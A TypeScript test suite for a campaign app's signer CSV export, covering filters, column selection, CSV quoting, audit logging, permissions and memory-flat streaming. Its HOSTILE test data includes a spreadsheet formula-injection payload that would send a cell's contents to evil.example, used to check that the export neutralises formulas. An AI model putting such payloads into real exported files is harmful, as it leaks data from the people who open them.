import v8 from "node:v8";
import vm from "node:vm";
import type { AppLoadContext } from "@remix-run/node";
import { and, eq, sql } from "drizzle-orm";
import { beforeAll, describe, expect, test } from "vitest";
import type { DatabaseHandle } from "../../db/client.server";
import { auditLog, signatures, type Campaign, type PledgeOption } from "../../db/schema";
import { exportStream, type ExportOutcome } from "~/lib/export.server";
import { planExport } from "~/lib/export-query.server";
import { exportSchema, pledgeColumn, SIGNER_COLUMNS, type ExportOptions } from "~/lib/export-schema";
import { replacePledges } from "~/lib/pledges.server";
import { loader as csvLoader } from "~/routes/org.c.$slug.export[.]csv";
import { loader as pageLoader } from "~/routes/org.c.$slug.export";
import { csvObjects, parseCsv } from "../support/csv";
import { driverName } from "../support/db";
import { createTestCampaign } from "../support/factories";
import { createMember } from "../support/organizer-factories";
import { createTestOption } from "../support/pledge-admin-factories";
import { routeContext, routeRequest, settle } from "../support/route-context";
import { fileDatabase } from "../support/suite";

/** The signer export on this driver: which rows, which cells, the file's format, the audit trail. */

const handle = await fileDatabase();
const { db } = handle;
let context: AppLoadContext;
let campaign: Campaign;
let money: PledgeOption;
let action: PledgeOption;
let owner: Awaited<ReturnType<typeof createMember>>;

const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"];

async function addSigner(values: Partial<typeof signatures.$inferInsert> & { firstName: string; createdAt: Date }, campaignId = campaign.id): Promise<number> {
  const email = values.email ?? `${values.firstName.toLowerCase().replace(/[^a-z]/g, "") || "x"}-${Math.random().toString(36).slice(2)}@example.org`;
  const [row] = await db
    .insert(signatures)
    .values({ campaignId, lastName: "Doe", country: "CA", locale: "en", ...values, email, emailNormalized: email.toLowerCase() })
    .returning({ id: signatures.id });
  return row!.id;
}

const day = (iso: string) => new Date(iso);

beforeAll(async () => {
  owner = await createMember(handle.db, "owner");
  context = routeContext(db, { database: handle });
  campaign = await createTestCampaign(db, { groupId: owner.group.id });
  money = await createTestOption(db, campaign, { kind: "money", currency: "CAD", title: "=Strike fund" });
  action = await createTestOption(db, campaign, { kind: "action", title: "Join a picket line", position: 2 });
  const rosa = await addSigner({
    firstName: "Rosa",
    lastName: "Luxemburg",
    country: "DE",
    postalCode: "10117",
    organization: "Spartakusbund, Berlin",
    message: 'Solidarity, "always".\nFrom Berlin',
    showName: true,
    updatesOptIn: true,
    source: "newsletter",
    createdAt: day("2026-03-01T10:00:00Z"),
    confirmedAt: day("2026-03-01T10:05:00Z"),
  });
  await replacePledges(db, rosa, [{ optionId: money.id, amountMinor: 2550 }, { optionId: action.id, amountMinor: null }], true);
  await addSigner({ firstName: "Karl", lastName: "Liebknecht", country: "DE", createdAt: day("2026-03-02T12:00:00Z") }); // never confirmed
  const lucy = await addSigner({ firstName: "Lucy", lastName: "Parsons", country: "US", createdAt: day("2026-03-03T23:59:59Z"), confirmedAt: day("2026-03-04T08:00:00Z") });
  await replacePledges(db, lucy, [{ optionId: action.id, amountMinor: null }], true);
  await addSigner({ firstName: "Spam", lastName: "Bot", createdAt: day("2026-03-03T00:00:00Z"), confirmedAt: day("2026-03-03T00:00:00Z"), removedAt: day("2026-03-05T00:00:00Z") });
  await addSigner({ firstName: "Lucía", lastName: "García Solidarité", country: "MX", updatesOptIn: true, message: "Buy my crypto", messageHiddenAt: day("2026-03-04T09:00:00Z"), createdAt: day("2026-03-04T00:00:00Z"), confirmedAt: day("2026-03-04T00:00:01Z") });
  let minute = 0;
  for (const name of HOSTILE) {
    await addSigner({ firstName: name, lastName: name, organization: name, message: name, createdAt: new Date(Date.parse("2026-04-01T00:00:00Z") + minute++ * 60_000), confirmedAt: day("2026-04-02T00:00:00Z") });
  }
  const other = await createTestCampaign(db, { groupId: owner.group.id });
  await addSigner({ firstName: "Elsewhere", createdAt: day("2026-03-02T00:00:00Z"), confirmedAt: day("2026-03-02T00:00:00Z") }, other.id);
});

const options = (input: Record<string, unknown> = {}): ExportOptions => exportSchema.parse({ columns: [...SIGNER_COLUMNS], ...input });

/** The export as bytes decoded to text (a BOM, when there is one, stays as U+FEFF). */
async function exportText(input: Record<string, unknown> = {}, on: DatabaseHandle = handle): Promise<{ text: string; outcome: ExportOutcome }> {
  const plan = planExport(campaign.id, options(input), [money, action]);
  if (!plan) throw new Error("no plan");
  let outcome: ExportOutcome | undefined;
  const bytes = await new Response(exportStream(on, plan, async (o) => void (outcome = o))).arrayBuffer();
  return { text: Buffer.from(bytes).toString("utf8"), outcome: outcome! };
}

const firstNames = (text: string) => csvObjects(text).map((r) => r["First name"]);

describe(`signer export (${driverName})`, () => {
  test("confirmed signers by default, in the order they signed; never removed ones or another campaign's", async () => {
    const { text, outcome } = await exportText();
    expect(firstNames(text).slice(0, 3)).toEqual(["Rosa", "Lucy", "Lucía"]);
    expect(text).not.toContain("Karl");
    expect(text).not.toContain("Spam");
    expect(text).not.toContain("Elsewhere");
    expect(outcome).toEqual({ rows: 3 + HOSTILE.length, completed: true });
  });

  test("filters: everyone, only those who want updates, a country, signed between two UTC days", async () => {
    expect(firstNames((await exportText({ status: "all", to: "2026-03-31" })).text)).toEqual(["Rosa", "Karl", "Lucy", "Lucía"]);
    expect(firstNames((await exportText({ updates: true })).text)).toEqual(["Rosa", "Lucía"]);
    expect(firstNames((await exportText({ status: "all", country: "DE" })).text)).toEqual(["Rosa", "Karl"]);
    // Both days included: Lucy signed at 23:59:59 on the 3rd, Lucía at midnight on the 4th.
    expect(firstNames((await exportText({ status: "all", from: "2026-03-02", to: "2026-03-03" })).text)).toEqual(["Karl", "Lucy"]);
    expect(firstNames((await exportText({ from: "2026-03-04", to: "2026-03-04" })).text)).toEqual(["Lucía"]);
    const nobody = await exportText({ country: "JP" });
    expect(parseCsv(nobody.text)).toHaveLength(1); // the header alone
    expect(nobody.outcome.rows).toBe(0);
  });

  test("the columns asked for, in file order, with one column per pledge option", async () => {
    const { text } = await exportText({ columns: [pledgeColumn(action.id), "email", "name", pledgeColumn(money.id), "signedAt", "confirmedAt", "showName"] });
    const [header, rosa, lucy, lucia] = parseCsv(text);
    expect(header).toEqual(["First name", "Last name", "Email", "Show name publicly", "Signed at (UTC)", "Confirmed at (UTC)", "'=Strike fund (CAD)", "Join a picket line"]);
    expect(rosa).toEqual(["Rosa", "Luxemburg", expect.stringMatching(/^rosa-.*@example\.org$/), "yes", "2026-03-01 10:00:00", "2026-03-01 10:05:00", "25.50", "yes"]);
    expect(lucy?.slice(-2)).toEqual(["", "yes"]);
    expect(lucia?.slice(-2)).toEqual(["", ""]);
  });

  test("every column a signer can fill, RFC 4180: quotes, commas and line breaks inside quoted cells, CRLF", async () => {
    const { text } = await exportText({ to: "2026-03-31" });
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    const rosa = csvObjects(text)[0]!;
    expect(rosa).toEqual({
      "First name": "Rosa",
      "Last name": "Luxemburg",
      Email: expect.stringMatching(/@example\.org$/),
      Country: "DE",
      "Postal code": "10117",
      Organization: "Spartakusbund, Berlin",
      Message: 'Solidarity, "always".\r\nFrom Berlin',
      "Message hidden by a moderator": "no",
      "Show name publicly": "yes",
      "Wants updates": "yes",
      "Signed at (UTC)": "2026-03-01 10:00:00",
      "Confirmed at (UTC)": "2026-03-01 10:05:00",
      Source: "newsletter",
    });
    expect(csvObjects(text)[2]!["Last name"]).toBe("García Solidarité");
  });

  test("a column says whether a moderator hid the message: yes, no, or empty when there is none", async () => {
    const { text } = await exportText({ to: "2026-03-31", columns: ["name", "message", "messageHidden"] });
    expect(parseCsv(text)).toEqual([
      ["First name", "Last name", "Message", "Message hidden by a moderator"],
      ["Rosa", "Luxemburg", 'Solidarity, "always".\r\nFrom Berlin', "no"],
      ["Lucy", "Parsons", "", ""],
      ["Lucía", "García Solidarité", "Buy my crypto", "yes"],
    ]);
  });

  test("cells a spreadsheet would run as a formula start with an apostrophe, and nothing else changes", async () => {
    const rows = csvObjects((await exportText({ from: "2026-04-01" })).text);
    expect(rows).toHaveLength(HOSTILE.length);
    rows.forEach((row, i) => {
      for (const column of ["First name", "Last name", "Organization", "Message"]) expect(row[column], column).toBe(`'${HOSTILE[i]}`);
    });
    expect(rows.every((row) => row["Country"] === "CA")).toBe(true);
  });

  test("a byte-order mark only when asked for", async () => {
    expect((await exportText({ bom: true })).text.startsWith("\uFEFFFirst name,")).toBe(true);
    expect((await exportText()).text.startsWith("First name,")).toBe(true);
  });

  test("a pledge option of another campaign is not a column here", async () => {
    const other = await createTestCampaign(db, { groupId: owner.group.id });
    const foreign = await createTestOption(db, other, { kind: "action" });
    expect(planExport(campaign.id, options({ columns: ["name", pledgeColumn(foreign.id)] }), [money, action])).toBeNull();
  });

  test.runIf(driverName === "pg")("COPY and the cursor pages that PGlite uses give the same bytes", async () => {
    const asPglite = { ...handle, driver: "pglite" } as unknown as DatabaseHandle;
    for (const input of [{}, { status: "all", bom: true }, { columns: ["name", "message", pledgeColumn(money.id)] }]) {
      const copy = await exportText(input);
      const paged = await exportText(input, asPglite);
      expect(copy.text).toBe(paged.text);
      expect(copy.outcome).toEqual(paged.outcome);
    }
  });
});

describe("the export routes", () => {
  const slug = () => campaign.slug;
  const csvUrl = (query: string) => `/org/c/${slug()}/export.csv?${query}`;

  test("an organizer downloads the file, named after the campaign and the day, and the export is audited", async () => {
    const organizer = await createMember(db, "organizer", owner.group);
    const response = (await csvLoader({ request: routeRequest(csvUrl("status=confirmed&country=DE&columns=name&columns=email"), { cookie: organizer.cookie }), context, params: { slug: slug() } })) as Response;
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toBe(`attachment; filename="${slug()}-signers-${new Date().toISOString().slice(0, 10)}.csv"`);
    expect(response.headers.get("cache-control")).toBe("no-store");
    const [entry] = await db.select().from(auditLog).where(and(eq(auditLog.campaignId, campaign.id), eq(auditLog.actorId, organizer.organizer.id)));
    expect(entry?.details).toMatchObject({ outcome: "started" }); // written before the first byte
    expect(firstNames(await response.text())).toEqual(["Rosa"]);
    const [done] = await db.select().from(auditLog).where(eq(auditLog.id, entry!.id));
    expect(done).toMatchObject({ action: "signers.export", groupId: owner.group.id });
    expect(done!.details).toEqual({ via: "web", status: "confirmed", country: "DE", columns: "name email", outcome: "complete", rows: 1 });
  });

  test("viewers get a 403 and other groups a 404, and neither leaves an audit entry", async () => {
    const viewer = await createMember(db, "viewer", owner.group);
    const outsider = await createMember(db, "owner");
    const before = await db.$count(auditLog, eq(auditLog.campaignId, campaign.id));
    for (const [who, status] of [[viewer, 403], [outsider, 404]] as const) {
      const loaders: [(args: Parameters<typeof csvLoader>[0]) => Promise<unknown>, string][] = [
        [csvLoader, csvUrl("columns=name")],
        [pageLoader, `/org/c/${slug()}/export`],
      ];
      for (const [loader, url] of loaders) {
        const got = await settle(() => loader({ request: routeRequest(url, { cookie: who.cookie }), context, params: { slug: slug() } }));
        expect(got.thrown && got.response.status).toBe(status);
      }
    }
    expect(await db.$count(auditLog, eq(auditLog.campaignId, campaign.id))).toBe(before);
  });

  test("a download started from another site is refused", async () => {
    const request = routeRequest(csvUrl("columns=name"), { cookie: owner.cookie });
    request.headers.set("sec-fetch-site", "cross-site");
    const got = await settle(() => csvLoader({ request, context, params: { slug: slug() } }));
    expect(got.thrown && got.response.status).toBe(403);
  });

  test("bad settings: a 400 on the file's address, errors next to the fields on the page", async () => {
    for (const query of ["", "columns=name&status=everyone", "columns=password", "columns=name&from=2026-02-31", `columns=${pledgeColumn(99999999)}`]) {
      const response = (await csvLoader({ request: routeRequest(csvUrl(query), { cookie: owner.cookie }), context, params: { slug: slug() } })) as Response;
      expect(response.status, query).toBe(400);
    }
    const page = (query: string) => settle(() => pageLoader({ request: routeRequest(`/org/c/${slug()}/export?download=1&${query}`, { cookie: owner.cookie }), context, params: { slug: slug() } }));
    const bad = await page("status=confirmed&from=2026-03-05&to=2026-03-01");
    expect(bad.thrown).toBe(false);
    const result = !bad.thrown ? (bad.value as unknown as { init: { status: number }; data: { lastResult: { error: Record<string, string[]> } } }) : null;
    expect(result?.init.status).toBe(400);
    expect(result?.data.lastResult.error).toEqual({ columns: ["export.errors.noColumns"], to: ["moderation.errors.dateOrder"] });
    const good = await page("status=all&updates=on&columns=name&columns=email&bom=on");
    expect(good.thrown && good.response.status).toBe(302);
    expect(good.thrown && good.response.headers.get("location")).toBe(`/org/c/${slug()}/export.csv?status=all&updates=on&columns=name&columns=email&bom=on`);
  });
});

describe(`a large export (${driverName})`, () => {
  const N = 50_000;
  let big: Campaign;
  let bigPlan: NonNullable<ReturnType<typeof planExport>>;

  beforeAll(async () => {
    big = await createTestCampaign(db, { groupId: owner.group.id });
    // About a kilobyte a row: some 50 MB of CSV.
    await db.execute(sql`
      INSERT INTO signatures (campaign_id, first_name, last_name, email, email_normalized, country, locale, message, created_at, confirmed_at)
      SELECT ${big.id}, 'First' || g, 'Last' || g, 'big' || g || '@example.org', 'big' || g || '@example.org', 'CA', 'en',
             repeat('Solidarité avec les travailleurs, ', 29), now() - make_interval(secs => ${N} - g), now()
      FROM generate_series(1, ${N}) g`);
    bigPlan = planExport(big.id, options({ columns: ["name", "email", "message", "signedAt"] }), [])!;
  }, 60_000);

  test("streams every row while the memory it holds stays flat", async () => {
    // What is still held after a garbage collection, not garbage waiting for one.
    v8.setFlagsFromString("--expose-gc");
    const gc = vm.runInNewContext("gc") as () => void;
    const held = () => {
      gc();
      const m = process.memoryUsage();
      return m.heapUsed + m.arrayBuffers;
    };
    // Sampled every 2 MB of CSV; the first samples include the database warming up (PGlite's
    // memory grows once to hold a page of rows).
    const samples: number[] = [];
    let bytes = 0;
    let nextSample = 2_000_000;
    let outcome: ExportOutcome | undefined;
    const reader = exportStream(handle, bigPlan, async (o) => void (outcome = o)).getReader();
    for (let next = await reader.read(); !next.done; next = await reader.read()) {
      bytes += next.value.byteLength;
      if (bytes >= nextSample) {
        samples.push(held());
        nextSample = bytes + 2_000_000;
      }
    }
    expect(outcome).toEqual({ rows: N, completed: true });
    expect(bytes).toBeGreaterThan(50_000_000);
    expect(samples.length).toBeGreaterThan(20);
    // The memory held early in the file and late in it: the same, give or take the database's
    // own pages (PGlite's swing by up to 9 MB between samples). Holding what was sent, or a
    // quarter of it, would show as growth.
    const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
    const growth = median(samples.slice(-8)) - median(samples.slice(2, 10));
    expect(growth).toBeLessThan(bytes / 4);
  }, 60_000);

  test("a download stopped half-way stops the query", async () => {
    let outcome: ExportOutcome | undefined;
    const reader = exportStream(handle, bigPlan, async (o) => void (outcome = o)).getReader();
    await reader.read();
    await reader.read();
    if (driverName === "pg") expect(await activeCopies()).toBe(1);
    await reader.cancel();
    expect(outcome?.completed).toBe(false);
    expect(outcome!.rows).toBeLessThan(N);
    if (driverName === "pg") await expect.poll(activeCopies, { timeout: 5_000 }).toBe(0);
    // And the connection is back: the database still answers.
    expect(await db.$count(signatures, eq(signatures.campaignId, big.id))).toBe(N);
  }, 60_000);

  async function activeCopies(): Promise<number> {
    const { rows } = (await db.execute(
      sql`SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND backend_type = 'client backend' AND state = 'active' AND query LIKE 'COPY (%'`,
    )) as unknown as { rows: { n: number }[] };
    return rows[0]!.n;
  }
});
